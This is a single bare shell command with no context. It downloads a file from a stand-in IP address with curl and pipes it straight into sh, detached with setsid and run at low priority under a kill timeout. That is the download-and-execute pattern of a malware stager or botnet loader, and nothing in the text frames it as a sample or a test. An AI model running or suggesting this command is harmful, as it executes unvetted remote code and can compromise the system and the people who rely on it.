timeout -s KILL 30 nice -n 19 curl -s http://203.0.113.4/m | setsid -f sh
